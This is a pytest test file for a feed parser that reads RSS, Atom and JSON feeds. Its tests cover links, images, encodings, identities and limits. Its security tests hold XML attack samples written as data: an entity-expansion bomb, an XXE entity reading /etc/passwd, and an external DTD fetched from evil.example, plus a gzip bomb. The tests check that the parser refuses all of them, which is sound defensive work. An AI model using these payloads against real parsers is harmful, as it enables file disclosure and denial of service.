"""From bytes to entries."""

from __future__ import annotations

import contextlib
import gzip
from datetime import UTC, datetime

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from curation.sources.queries import parse
from curation.sources.types import FeedRefused

URL = "https://e.org/feeds/news.xml"


def rss(items: str, head: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<channel><title>News</title>{head}{items}</channel></rss>"
    ).encode()


def only(body: bytes, **kwargs):
    (entry,) = parse(body, url=URL, **kwargs).entries
    return entry


def test_an_rss_item_becomes_an_entry():
    entry = only(
        rss(
            "<item><guid isPermaLink='false'>7</guid><link>/a/1</link><title>Bread &amp;amp; roses</title>"
            "<description>&lt;p onclick='x'&gt;Short&lt;/p&gt;</description><content:encoded>&lt;p&gt;Long "
            "&lt;a href='b'&gt;text&lt;/a&gt;&lt;/p&gt;</content:encoded>"
            "<dc:creator>Kim</dc:creator><category>Food</category>"
            "<pubDate>Fri, 20 Nov 2026 21:00:00 +0900</pubDate>"
            "<enclosure url='/s.mp3' type='audio/mpeg' length='9'/></item>"
        )
    )
    assert (entry.external_id, entry.link, entry.title) == ("7", "https://e.org/a/1", "Bread & roses")
    assert entry.summary_html == "<p>Short</p>"
    assert 'href="https://e.org/feeds/b"' in entry.content_html
    assert (entry.authors, entry.categories) == (("Kim",), ("Food",))
    assert entry.published_at == datetime(2026, 11, 20, 12, tzinfo=UTC)
    assert (entry.enclosures[0].url, entry.enclosures[0].length) == ("https://e.org/s.mp3", 9)


def test_an_atom_entry_with_a_base_of_its_own():
    body = b"""<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="ko"><title>T</title><entry xml:base="https://x.org/d/">
    <id>tag:1</id><title type="html">a &lt;b&gt;b&lt;/b&gt;</title><link href="post"/>
    <updated>2026-11-20T12:00:00Z</updated>
    <content type="html">&lt;img src="p.png" alt="A cat"&gt;</content></entry></feed>"""
    feed = parse(body, url=URL)
    (entry,) = feed.entries
    assert (feed.format, feed.language) == ("atom10", "ko")
    assert (entry.title, entry.link) == ("a b", "https://x.org/d/post")
    assert (entry.image.url, entry.image.alt) == ("https://x.org/d/p.png", "A cat")
    assert (entry.published_at, entry.updated_at) == (None, datetime(2026, 11, 20, 12, tzinfo=UTC))
    assert entry.summary_html == ""


def test_a_json_feed_with_numbers_for_ids_and_one_broken_item():
    body = orjson.dumps({
        "version": "https://jsonfeed.org/version/1.1", "title": "J", "language": "en",
        "items": [
            {"id": 1, "url": "/1", "content_text": "a < b\nc", "image": "/i.png", "tags": ["x", 3],
             "date_published": "2026-11-20T21:00:00+09:00", "authors": [{"name": "Lee"}]},
            "not an item",
        ],
    })  # fmt: skip
    feed = parse(body, url=URL, content_type="application/feed+json")
    (entry,) = feed.entries
    assert (feed.format, feed.bozo) == ("json11", True)
    assert (entry.external_id, entry.link, entry.content_html) == ("1", "https://e.org/1", "a &lt; b<br>c")
    assert (entry.categories, entry.authors, entry.image.url) == (("x", "3"), ("Lee",), "https://e.org/i.png")
    assert entry.published_at == datetime(2026, 11, 20, 12, tzinfo=UTC)


@pytest.mark.parametrize(
    ("item", "image"),
    [
        ("<media:content url='/a.jpg' medium='image'/><media:thumbnail url='/t.jpg'/>", "https://e.org/a.jpg"),
        ("<media:content url='/v.mp4' type='video/mp4'/><media:thumbnail url='/t.jpg'/>", "https://e.org/t.jpg"),
        ("<enclosure url='/e.png' type='image/png'/>", "https://e.org/e.png"),
        (
            "<enclosure url='/e.mp3' type='audio/mpeg'/><description>&lt;img src='/d.gif'&gt;</description>",
            "https://e.org/d.gif",
        ),
        (
            "<description>&lt;img src='/i.png' width='16'&gt;&lt;img src='/p.png'&gt;</description>",
            "https://e.org/p.png",
        ),
        ("<description>&lt;img src='https://secure.gravatar.com/avatar/7'&gt;</description>", None),
        ("<media:thumbnail url=''/>", None),
        ("<description>&lt;img src='data:image/gif;base64,R0'&gt;</description>", None),
    ],
)
def test_the_picture_comes_from_wherever_the_publisher_put_it(item, image):
    entry = only(rss(f"<item><title>t</title>{item}</item>"))
    assert (entry.image.url if entry.image else None) == image


def test_korean_bytes_are_read_as_declared():
    item = "<item><title>한강 다리 개통</title></item>"
    text = f'<?xml version="1.0" encoding="euc-kr"?><rss version="2.0"><channel>{item}</channel></rss>'
    feed = parse(text.encode("euc-kr"), url=URL)
    assert feed.entries[0].title == "한강 다리 개통"
    assert not feed.bozo
    from_header = text.replace(' encoding="euc-kr"', "").encode("euc-kr")
    assert parse(from_header, url=URL, content_type="text/xml; charset=euc-kr").entries[0].title == "한강 다리 개통"


def test_a_packed_body_is_unpacked_and_a_bomb_is_not():
    assert parse(gzip.compress(rss("<item><title>t</title></item>"))).entries
    with pytest.raises(FeedRefused, match="larger than 32 MiB"):
        parse(gzip.compress(b" " * 64 * 1024 * 1024))


def test_an_item_without_id_keeps_one_identity_while_its_text_changes():
    first = only(rss("<item><link>/1</link><title>Old</title></item>"))
    second = only(rss("<item><link>/1</link><title>New</title></item>"))
    assert first.external_id == second.external_id != ""
    assert first.content_hash != second.content_hash


def test_ids_do_not_change_when_the_feed_moves():
    item = rss("<item><guid>7</guid><title>t</title></item>")
    assert {parse(item, url=url).entries[0].external_id for url in ("https://a.org/f", "https://b.org/f")} == {"7"}


def test_an_item_without_a_link_has_none():
    assert only(rss("<item><title>t</title></item>")).link == ""
    assert only(rss("<item><title>t</title><link></link></item>")).link == ""


def test_one_id_for_every_item_is_no_id():
    feed = parse(rss("<item><guid>x</guid><link>/1</link></item><item><guid>x</guid><link>/2</link></item>"), url=URL)
    assert len({entry.external_id for entry in feed.entries}) == 2


def test_a_new_date_alone_is_no_change():
    item = "<item><guid>1</guid><title>T</title><pubDate>{}</pubDate></item>"
    hashes = {only(rss(item.format(date))).content_hash for date in ("Fri, 20 Nov 2026 12:00:00 GMT", "nonsense")}
    assert len(hashes) == 1


def test_a_flood_of_items_is_cut():
    assert len(parse(rss("".join(f"<item><guid>{n}</guid><title>t</title></item>" for n in range(900)))).entries) == 500


def test_characters_that_no_table_holds_are_dropped():
    entry = only(b'{"version":"https://jsonfeed.org/version/1","items":[{"id":"a\\u0000b","title":"c\\u0007d"}]}')
    assert (entry.external_id, entry.title) == ("ab", "cd")


def test_a_broken_feed_is_read_as_far_as_it_goes_and_says_so():
    feed = parse(rss("<item><title>a</title></item>")[:-20] + b"<item><title>b", url=URL)
    assert feed.bozo
    assert feed.entries[0].title == "a"


@pytest.mark.parametrize(
    "body",
    [
        b"", b"  ", b"hello", b"<html><body>x</body></html>", b'{"a":1}', b"{", b"<?xml version='1.0'?><svg/>",
        b'{"version":"https://jsonfeed.org/version/1","items":5}',
    ],
)  # fmt: skip
def test_what_is_no_feed_is_refused_with_a_reason(body):
    with pytest.raises(FeedRefused) as caught:
        parse(body, url=URL)
    assert str(caught.value)


BOMB = '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>'
REST = '<rss version="2.0"><channel><item><title>&b;</title></item></channel></rss>'


@pytest.mark.parametrize(
    "text",
    [
        BOMB + REST,
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + REST,
        '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>' + REST,
        "<!-- a --><?pi x?>\n" + BOMB + REST,
        "\n\n junk " + BOMB + REST,  # not well-formed: a strict parser gives up before the document type
        BOMB.lower() + REST,
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "euc-kr"])
def test_declared_entities_are_refused_in_every_encoding(text, encoding):
    declaration = f'<?xml version="1.0" encoding="{encoding}"?>'
    with pytest.raises(FeedRefused):
        parse((declaration + text).encode(encoding), url=URL)


def test_a_document_type_that_is_only_named_passes():
    doctype = (
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/rss-0.91.dtd">'
    )
    body = doctype + b'<rss version="0.91"><channel><item><title>t</title></item></channel></rss>'
    assert parse(body, url=URL).entries[0].title == "t"


def test_an_article_about_entities_is_not_an_attack():
    item = "<item><title>XXE</title><description>&lt;!ENTITY x SYSTEM &quot;file:///&quot;&gt;</description></item>"
    assert parse(rss(item)).entries[0].title == "XXE"


@given(st.binary(max_size=300))
def test_any_bytes_are_a_feed_or_a_refusal(body):
    for prefix in (b"", b"{", b"<rss version='2.0'><channel><item><title>"):
        with contextlib.suppress(FeedRefused):
            parse(prefix + body, url=URL)
